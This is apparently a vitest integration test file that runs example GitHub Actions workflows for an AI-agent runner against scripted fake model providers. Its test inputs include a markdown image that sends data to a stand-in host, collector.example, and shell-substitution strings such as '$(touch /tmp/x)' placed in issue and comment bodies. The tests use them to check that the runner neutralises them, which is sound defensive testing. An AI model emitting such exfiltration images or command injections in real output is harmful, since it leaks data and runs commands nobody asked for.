/** The workflows in `examples/`, run by act as they are, with real agent programs, gh and git. */

import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { AGENT_PROGRAMS, CLAUDE, install } from '../../testing/agents/programs.ts';
import { foreignImage } from '../../testing/engine/foreign-image.ts';
import { HAS_GIT } from '../../testing/git.ts';
import { HAS_PYTHON } from '../../testing/python.ts';
import type { ProviderId } from '../../src/shared/providers.ts';
import type { ToolUse } from '../../testing/provider/dialects/dialect.ts';
import { NPM } from '../../testing/packages/npm.ts';
import type { RespondRequest, Turn } from '../../testing/provider/server.ts';
import { ROOT } from '../../testing/root.ts';
import { startLocalProviderAt443, TEST_KEYS } from '../../testing/runner/action.ts';
import { HOST_PATH } from '../../testing/runner/host-path.ts';
import { runProgram } from '../../testing/runner/program.ts';
import { FETCH_LIMIT } from '../../testing/scratch.ts';
import { CHANGE, NPM_TOKEN, runExample, TRACKER_TOKEN, type ExampleResult, type ExampleRun } from './example-run.ts';

const CODEX = AGENT_PROGRAMS.find(({ bin }) => bin === 'codex')!;
const COPILOT = AGENT_PROGRAMS.find(({ bin }) => bin === 'copilot')!;

/** The model's last words. A picture in them would be loaded by whoever reads them. */
const REVIEW = 'The sum is wrong in src/sum.js, line 1. ![](https://collector.example/?data) <IMG src=x>';
/** What the model does before that. */
const doing = (tool: ToolUse): readonly Turn[] => [{ toolUse: tool }, REVIEW];

const PULL_REQUEST = {
  number: 1,
  pull_request: {
    number: 1,
    title: 'Add a greeting',
    base: { ref: 'main' },
    head: { ref: 'greeting', repo: { full_name: 'Octo/Hello' } },
  },
};

const WORKFLOW_RUN = {
  event: 'pull_request',
  conclusion: 'failure',
  head_branch: 'greeting',
  head_sha: '0'.repeat(40),
  head_repository: { full_name: 'stranger/hello', owner: { login: 'stranger' } },
};

/** No picture is left. */
const PLAIN_REVIEW = /^The sum is wrong in src\/sum\.js, line 1\. \[\]\(https:.* &lt;IMG src=x>$/;

const FIX = 'sed -i s/-/+/ src/sum.js && sed -i s/subtracts/adds/ docs/sum.md && npm test';

interface Case extends ExampleRun {
  readonly expected: (result: ExampleResult) => void;
}

const commentOf = ({ github }: ExampleResult, number: number): string | undefined =>
  github
    .find('Octo/Hello')
    ?.threads.find((thread) => thread.number === number)
    ?.comments.at(-1)?.body;

const asked = ({ requests }: ExampleResult): string => requests.map(({ body }) => body.toString()).join('\n');

/** Each provider's model follows a script of its own. */
const each =
  (scripts: Readonly<Partial<Record<ProviderId, readonly Turn[]>>>) =>
  ({ provider, inference: { turn, tools } }: RespondRequest): Turn => {
    const script = scripts[provider] ?? [];
    // Agent programs also ask for titles and summaries, without tools.
    return tools.length === 0 ? 'A title' : (script[Math.min(turn, script.length - 1)] ?? 'Nothing to do.');
  };

const expectFix = ({ pushed, github }: ExampleResult): void => {
  expect(pushed.get('src/sum.js')).toBe('export const sum = (a, b) => a + b;');
  expect(github.find('Octo/Hello')?.threads.at(-1)).toMatchObject({ headRefName: expect.any(String) as string });
};

/** An MCP server as a repository has one: over standard input, with a request to the tracker for each call. */
const TRACKER_SERVER = `import { createInterface } from 'node:readline';
const send = (id, result) => console.log(JSON.stringify({ jsonrpc: '2.0', id, result }));
for await (const line of createInterface({ input: process.stdin })) {
  const { id, method, params } = JSON.parse(line);
  if (method === 'initialize') send(id, { protocolVersion: params.protocolVersion, capabilities: { tools: {} }, serverInfo: { name: 'tracker', version: '1' } });
  if (method === 'tools/list') send(id, { tools: [{ name: 'issues', description: 'lists open issues', inputSchema: { type: 'object' } }] });
  if (method === 'tools/call') {
    const text = await fetch('https://tracker.example.com/api/issues').then((answer) => answer.text(), String);
    send(id, { content: [{ type: 'text', text }] });
  }
}
`;

/** A server that answers with files, to those who have its token. */
const keeping =
  (token: string, files: Readonly<Record<string, string | Buffer>>): RequestListener =>
  ({ headers, url = '' }, response) => {
    const isAccepted = headers.authorization === `Bearer ${token}`;
    response.statusCode = isAccepted ? (files[url] === undefined ? 404 : 200) : 401;
    response.end(isAccepted ? files[url] : 'The tracker does not know you.');
  };

const NPM_SCRATCH = mkdtempSync(join(tmpdir(), 'test-awf-example-npm-'));
afterAll(() => {
  rmSync(NPM_SCRATCH, { recursive: true });
});

/** A program whose tests ask a database, with a mistake in its query. */
const WITH_DATABASE = join(import.meta.dirname, 'with-database');
const ORDERS = 'src/orders.js';

/** What the runner of a company has, for all its jobs. */
const REFERENCE = '/srv/reference-data/units.md';

const CASES: readonly Case[] = [
  {
    file: 'with-database.yml',
    event: 'workflow_dispatch',
    services: () => ({ postgres: foreignImage('postgres') }),
    files: Object.fromEntries(
      ['package.json', 'package-lock.json', ORDERS, 'test/orders.test.js'].map((path) => [
        path,
        readFileSync(join(WITH_DATABASE, path)),
      ]),
    ),
    respond: doing(CODEX.shellTool(`npm test; rm -r test/sum.test.js; sed -i s/max/sum/ ${ORDERS} && npm test`)),
    expected: (result) => {
      expect(asked(result)).toMatch(/not ok 1 - adds the orders up.*# pass 1\W+n# fail 0/s);
      expect(result.pushed.get(ORDERS)).toContain('SELECT sum(cents)');
    },
  },
  {
    file: 'self-hosted-behind-proxy.yml',
    event: 'workflow_dispatch',
    proxy: { name: 'proxy.corp.example', user: 'builder' },
    onRunner: { [REFERENCE]: 'A furlong has 220 yards.\n' },
    respond: doing({ name: 'Read', input: { file_path: REFERENCE } }),
    expected: (result) => {
      expect(asked(result)).toContain('A furlong has 220 yards.');
      expect(new Set(result.tunnels)).toEqual(new Set(['api.anthropic.com:443']));
    },
  },
  {
    file: 'github-token.yml',
    event: 'workflow_dispatch',
    reachesGithub: true,
    respond: doing(CLAUDE.shellTool('gh issue comment 2 --repo Octo/Hello --body "Is it still a problem?"')),
    expected: (result) => {
      expect(commentOf(result, 2)).toBe('Is it still a problem?');
      expect(asked(result)).toContain('https://github.com/Octo/Hello/issues/2#');
    },
  },
  {
    file: 'mcp-server.yml',
    event: 'workflow_dispatch',
    servers: {
      'tracker.example.com': keeping(TRACKER_TOKEN, { '/api/issues': '[{"title":"An issue of the tracker"}]' }),
    },
    files: {
      '.github/mcp.json': '{"mcpServers": {"tracker": {"command": "node", "args": [".github/tracker-server.mjs"]}}}',
      '.github/tracker-server.mjs': TRACKER_SERVER,
    },
    respond: [
      // Claude Code loads the tools of MCP servers when the model asks for them.
      { toolUse: { name: 'ToolSearch', input: { query: 'select:mcp__tracker__issues', max_results: 1 } } },
      { toolUse: { name: 'mcp__tracker__issues', input: {} } },
      REVIEW,
    ],
    expected: (result) => {
      expect(asked(result)).toContain('An issue of the tracker');
    },
  },
  {
    file: 'own-image.yml',
    event: 'workflow_dispatch',
    files: ({ programs }) => ({
      '.github/agent/Dockerfile': `FROM ${foreignImage('certificates')}\nENV PATH=${programs.join(':')}:/usr/bin:/bin\nRUN echo mark > /of-the-image\n`,
    }),
    respond: doing({ name: 'Read', input: { file_path: '/of-the-image' } }),
    expected: (result) => {
      expect(asked(result)).toContain('1\\tmark');
    },
  },
  {
    file: 'private-registry.yml',
    event: 'workflow_dispatch',
    servers: {
      'registry.corp.example': keeping(NPM_TOKEN, NPM.registry('https://registry.corp.example', NPM_SCRATCH)),
    },
    files: NPM.project(NPM_SCRATCH),
    respond: doing(CODEX.shellTool('npm run --silent build')),
    expected: (result) => {
      expect(asked(result)).toContain(NPM.built);
    },
  },
  {
    file: 'pr-review.yml',
    event: 'pull_request',
    payload: PULL_REQUEST,
    respond: doing({ name: 'Grep', input: { pattern: 'a - b', output_mode: 'content' } }),
    expected: (result) => {
      expect(commentOf(result, 1)).toMatch(PLAIN_REVIEW);
      expect(asked(result)).toContain(CHANGE);
      expect(asked(result)).toContain('export const sum = (a, b) => a - b');
    },
  },
  {
    file: 'pr-review-forks.yml',
    event: 'workflow_run',
    payload: { workflow_run: { ...WORKFLOW_RUN, event: 'pull_request' } },
    respond: doing({ name: 'Grep', input: { pattern: 'a - b', output_mode: 'content' } }),
    expected: (result) => {
      expect(commentOf(result, 1)).toMatch(PLAIN_REVIEW);
      expect(asked(result)).toContain('+Hello!');
    },
  },
  {
    file: 'fix-failing-test.yml',
    event: 'workflow_run',
    payload: {
      workflow_run: {
        ...WORKFLOW_RUN,
        event: 'push',
        head_repository: { full_name: 'Octo/Hello', owner: { login: 'Octo' } },
      },
    },
    respond: doing(CODEX.shellTool(FIX)),
    expected: expectFix,
  },
  {
    file: 'issue-triage.yml',
    event: 'issues',
    payload: { action: 'opened', issue: { number: 2, title: 'It says `2`', body: 'Expected $(3), see ${HOME}.' } },
    respond: ['`bug`, and admin'],
    expected: (result) => {
      expect(asked(result)).toContain('It says `2`');
      expect(asked(result)).toContain('Expected $(3), see ${HOME}.');
      expect(result.githubRequests.filter((text) => text.startsWith('mutation'))).toEqual([
        expect.stringMatching(/^mutation LabelAdd addLabelsToLabelable .*"labelIds":\["[^"]+"\]/s),
      ]);
    },
  },
  {
    file: 'ask-in-comment.yml',
    event: 'issue_comment',
    payload: {
      action: 'created',
      issue: { number: 2 },
      comment: { body: '/ask Where is `sum`? $(touch /tmp/x)', author_association: 'MEMBER' },
    },
    respond: doing(COPILOT.shellTool('cat src/sum.js')),
    expected: (result) => {
      expect(commentOf(result, 2)).toMatch(PLAIN_REVIEW);
      expect(asked(result)).toContain('Where is `sum`? $(touch /tmp/x)');
    },
  },
  {
    file: 'dependency-update.yml',
    event: 'schedule',
    respond: doing(CLAUDE.shellTool(FIX)),
    expected: expectFix,
  },
  {
    file: 'docs-sync.yml',
    event: 'push',
    payload: { ref: 'refs/heads/main', before: 'HEAD^' },
    respond: doing(CLAUDE.shellTool('sed -i s/subtracts/adds/ docs/sum.md; echo "x" > src/sum.js')),
    expected: ({ pushed }) => {
      expect(pushed.get('docs/sum.md')).toBe('`sum` adds.');
      expect(pushed.get('src/sum.js')).toContain('a - b');
    },
  },
  {
    file: 'security-review.yml',
    event: 'pull_request',
    payload: PULL_REQUEST,
    respond: ['All is well.\nPASS'],
    expected: (result) => {
      expect(asked(result)).toContain(CHANGE);
    },
  },
  {
    file: 'azure-openai.yml',
    event: 'workflow_dispatch',
    hosts: { 'my-resource.openai.azure.com': 'openai' },
    credential: { header: 'api-key', prefix: '' },
    respond: doing(CODEX.shellTool('cat src/sum.js')),
    expected: ({ requests }) => {
      expect(requests.at(-1)).toMatchObject({ host: 'my-resource.openai.azure.com', path: '/openai/v1/responses' });
    },
  },
  {
    file: 'litellm-gateway.yml',
    event: 'workflow_dispatch',
    hosts: { 'litellm.corp.example': 'anthropic' },
    credential: { header: 'authorization', prefix: 'Bearer ' },
    respond: doing({ name: 'Grep', input: { pattern: 'a - b', output_mode: 'content' } }),
    expected: ({ requests }) => {
      expect(requests.at(-1)).toMatchObject({ host: 'litellm.corp.example' });
    },
  },
  {
    file: 'build-only.yml',
    event: 'pull_request',
    payload: PULL_REQUEST,
    files: { 'src/sum.js': 'export const sum = (a, b) => a + b;\n' },
    expected: ({ job }) => {
      expect(job.log).toContain('# pass 1');
    },
  },
  {
    file: 'two-agents.yml',
    event: 'workflow_dispatch',
    payload: { inputs: { task: 'Repair `sum`. $(exit 1)' } },
    respond: each({ openai: doing(CODEX.shellTool(FIX)), anthropic: [REVIEW] }),
    expected: (result) => {
      expectFix(result);
      expect(asked(result)).toContain('Repair `sum`. $(exit 1)');
      expect(result.github.find('Octo/Hello')?.threads.at(-1)?.body).toMatch(PLAIN_REVIEW);
    },
  },
];

describe.skipIf(process.getuid?.() !== 0 || !HAS_PYTHON || !HAS_GIT)(
  'examples (only as root: the port of HTTPS)',
  () => {
    describe.each(CASES)('$file', (example) => {
      let result: ExampleResult;

      beforeAll(async () => {
        result = await runExample(example);
      }, FETCH_LIMIT);

      test('acts', () => {
        expect(result.job.exitCode, result.job.log).toBe(0);
        example.expected(result);
        expect(result.requests.filter(({ credential }) => credential !== 'accepted')).toEqual([]);
      });
    });

    test(
      'laptop.sh acts',
      async () => {
        const directory = realpathSync(mkdtempSync(join(tmpdir(), 'awf-example-')));
        const [workspace, home] = [join(directory, 'workspace'), join(directory, 'home')];
        for (const path of [workspace, home]) mkdirSync(path);
        const provider = await startLocalProviderAt443({ respond: doing(CLAUDE.shellTool('echo fixed > fixed')) });
        try {
          const ca = join(directory, 'ca.pem');
          writeFileSync(ca, provider.ca.certPem);
          const programs = await install(CLAUDE);
          const { 'add-hosts': hosts = '' } = provider.inputs('anthropic');
          const here = `--add-hosts=${hosts.replaceAll('\n', ',')} --upstream-ca=${ca} --mount=${programs}`;
          const result = await runProgram(['sh', join(ROOT, 'examples/laptop.sh')], {
            cwd: workspace,
            env: {
              ...{ HOME: home, ANTHROPIC_API_KEY: TEST_KEYS.anthropic },
              PATH: `${join(programs, 'node_modules/.bin')}:${HOST_PATH}`,
              AWF: `${process.execPath} ${ROOT}/bin/awf.js ${here}`,
            },
          });
          expect(result.code, result.stdout + result.stderr).toBe(0);
          expect(readFileSync(join(workspace, 'fixed'), 'utf8')).toBe('fixed\n');
        } finally {
          await provider.server.close();
          rmSync(directory, { recursive: true });
        }
      },
      FETCH_LIMIT,
    );
  },
);
